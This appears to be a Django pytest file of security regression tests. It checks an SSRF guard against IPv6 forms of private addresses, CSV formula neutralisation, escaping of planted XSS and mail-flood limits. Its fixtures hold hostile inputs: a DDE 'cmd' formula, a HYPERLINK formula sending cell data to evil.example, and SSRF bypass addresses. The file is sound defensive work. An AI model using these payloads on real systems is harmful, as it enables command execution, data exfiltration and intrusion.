"""Attacks on what session 4 built (exchange, positions, api, admission results, everyday use)
that must keep failing. Each test names the finding it pins."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.contrib.auth import get_user_model
from django.core.exceptions import ValidationError

from hafennetz.api import services as api_services
from hafennetz.engines.grouping.exports import plain_csv, zoom_csv
from hafennetz.engines.grouping.model import Group, Participant, Plan, Problem, Round, RoundPlan


@pytest.mark.parametrize(
    "address",
    [
        "64:ff9b::a00:1",  # NAT64 of 10.0.0.1: reaches the private net through the gateway
        "64:ff9b::7f00:1",  # NAT64 of 127.0.0.1
        "64:ff9b:1::a9fe:a9fe",  # local-use NAT64 prefix, 169.254.169.254 (cloud metadata)
        "::127.0.0.1",  # IPv4-compatible (deprecated)
        "2002:a00:1::1",  # 6to4 of 10.0.0.1
        "::ffff:127.0.0.1",
    ],
)
def test_webhook_guard_refuses_ipv6_forms_of_private_addresses(address: str) -> None:
    """Finding: `ip.is_global` is True for 64:ff9b::/96 (NAT64), ::/96 and 2002::/16 forms of
    private IPv4 addresses, so a webhook host resolving to 64:ff9b::a00:1 passed the SSRF
    guard on Python 3.11 and reached 10.0.0.1 wherever a NAT64 gateway routes it."""
    assert not api_services._is_public_address(address)


def test_webhook_guard_keeps_public_ipv6() -> None:
    for address in ("2001:4860:4860::8888", "64:ff9b::808:808", "2002:808:808::1", "8.8.8.8"):
        assert api_services._is_public_address(address), address


def test_webhook_url_with_nat64_address_is_refused(settings: Any) -> None:
    settings.WEBHOOK_ALLOW_LOOPBACK = False
    with pytest.raises(ValidationError):
        api_services.check_webhook_url("https://[64:ff9b::a00:1]/hook")


def _problem(name: str, topic: str) -> tuple[Problem, Plan]:
    people = tuple(
        Participant(
            id=f"r{i}",
            name=name if i == 0 else f"Person {i}",
            email="=cmd|' /C calc'!A0@example.org" if i == 0 else f"p{i}@example.org",
            member="05766020",
            state="05",
        )
        for i in range(4)
    )
    problem = Problem(people, (Round(2, 2, num_groups=2, topics=(topic, topic)),))
    plan = Plan(
        rounds=(
            RoundPlan(
                index=0,
                groups=(
                    Group(index=0, topic=topic, participant_ids=("r0", "r1")),
                    Group(index=1, topic=topic, participant_ids=("r2", "r3")),
                ),
            ),
        )
    )
    return problem, plan


def test_small_group_csv_exports_neutralise_formulas() -> None:
    """Finding: names on accounts (set by each person in the profile) and agenda topics went
    unneutralised into the small-group plan's CSV and the Zoom CSV that organisers open in
    Excel: a name typed as =HYPERLINK(…) became a live formula."""
    hostile = '=HYPERLINK("https://evil.example/?"&A1,"Klick")'
    problem, plan = _problem(hostile, "+kita")
    rows = list(csv.reader(io.StringIO(plain_csv(problem, plan))))
    zoom = list(csv.reader(io.StringIO(zoom_csv(problem, plan, 0))))
    for row in rows[1:] + zoom[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@")), row
    assert any(cell == "'" + hostile for row in rows for cell in row)


# --- stored XSS through the texts the session-4 modules show ------------------------------------

_NEW_TEXTS = {
    "exchange.Practice": [
        "title",
        "summary",
        "problem",
        "what_was_done",
        "results",
        "target_groups",
        "resources_staff",
        "resources_money",
        "resources_partners",
    ],
    "exchange.PracticeComment": ["text"],
    "exchange.ContactRequest": ["message", "answer"],
    "exchange.Attachment": ["original_name"],
    "positions.Position": ["title", "summary"],
    "positions.PositionVersion": ["note"],
    "positions.Comment": ["section_heading", "text", "answer"],
    "positions.Endorsement": ["signatory_name", "signatory_function", "council_decision_reference"],
    "positions.Demand": ["title", "description", "addressee"],
    "positions.DemandEntry": ["actor", "text"],
    "admission.Pledge": [
        "council_decision_reference",
        "accepted_by",
        "accepted_reference",
        "notes",
    ],
    "admission.Contingent": ["name", "notes"],
    "admission.KeyTable": ["name", "source"],
    "admission.Override": ["explanation"],
    "api.ApiToken": ["name"],
    "meetings.Meeting": ["minutes", "cancel_reason"],
    "meetings.AgendaBlock": ["title"],
    "meetings.FollowUp": ["title"],
    "situation.SurveyRound": ["title"],
    "situation.SituationReport": ["review_comment", "member_answer"],
}


def _plant_new_texts() -> None:
    from django.apps import apps

    from hafennetz.positions.models import PositionVersion

    from .test_attacks import payload

    for label, fields in _NEW_TEXTS.items():
        model = apps.get_model(label)
        values = {}
        for name in fields:
            limit = getattr(model._meta.get_field(name), "max_length", None) or 10_000
            values[name] = payload(f"{label.split('.')[1].lower()}-{name}")[:limit]
        model._default_manager.update(**values)
    for version in PositionVersion.objects.all():
        version.sections = [
            {**s, "heading": payload("section-heading"), "text": payload("section-text")}
            for s in version.sections
        ]
        version.save(update_fields=["sections"])
    get_user_model().objects.update(
        first_name=payload("first-name")[:150], last_name=payload("last-name")[:150]
    )


@pytest.mark.django_db
def test_session4_texts_are_rendered_as_text() -> None:
    """No finding (the pages escape everything; pinned): every text field the session-4 modules
    added, planted with HTML/JS in all rows, stays text on every page of the matrix's new areas
    (exchange, positions, admission, API pages, the start page, the audit log) for the public,
    a member, a state coordination and the office; JSON blocks (charts, maps) stay valid."""
    import json
    import re

    from django.test import Client

    from .matrix import admission, api, exchange, positions
    from .matrix.common import OK, login
    from .test_attacks import RAW_MARKERS, _Scripts
    from .test_permission_matrix import GET, _url, make_context

    context = make_context()
    _plant_new_texts()
    names = set(exchange.GET) | set(positions.GET) | set(admission.GET) | set(api.GET)
    names |= {n for n in ("my-overview", "audit-log", "meeting-detail", "home") if n in GET}
    seen: set[str] = set()
    for role in ("anonymous", "own_member", "state_same", "office"):
        client = Client()
        login(client, role)
        for name in sorted(names):
            kwargs, expected = GET[name]
            if expected[role] != OK:
                continue
            response = client.get(_url(name, kwargs, context))
            if response.status_code != 200 or "html" not in response.get("Content-Type", ""):
                continue
            html = response.content.decode()
            for marker in RAW_MARKERS:
                assert marker not in html, f"{name} as {role}: unescaped {marker!r}"
            scripts = _Scripts()
            scripts.feed(html)
            for block in scripts.json_blocks:
                assert "<" not in block and ">" not in block, f"{name} as {role}: raw < in JSON"
                json.loads(block)
            seen |= set(re.findall(r"&lt;script&gt;alert\(&#x27;([a-z_-]+)&#x27;\)", html))
    # The payloads reached the pages (as text), so the test proves something.
    assert {"practice-title", "position-title", "comment-text", "section-text"} <= seen, seen


@pytest.mark.django_db
def test_toggling_helpful_does_not_flood_the_author(member_user: Any, office_user: Any) -> None:
    """Finding: every 'helpful' mark enqueued a mail to the practice's author; taking the mark
    back and giving it again (one POST each, nothing visible on the page) mailed the author each
    time the worker ran in between. Now: one such mail per person and practice a day."""
    from django.core import mail

    from hafennetz.exchange import services as exchange_services
    from hafennetz.exchange.models import Practice

    from ..queued import work_off_queue

    practice = (
        Practice.objects.filter(status="published")
        .exclude(member__municipality_id="05766020")
        .exclude(helpful__user=member_user)
        .first()
    )
    assert practice is not None
    Practice.objects.filter(pk=practice.pk).update(created_by=office_user)
    practice.refresh_from_db()
    mail.outbox.clear()
    for _round in range(4):
        assert exchange_services.helpful_toggle(actor=member_user, practice=practice) is True
        work_off_queue()
        assert exchange_services.helpful_toggle(actor=member_user, practice=practice) is False
    assert len([m for m in mail.outbox if practice.created_by.email in m.to]) == 1
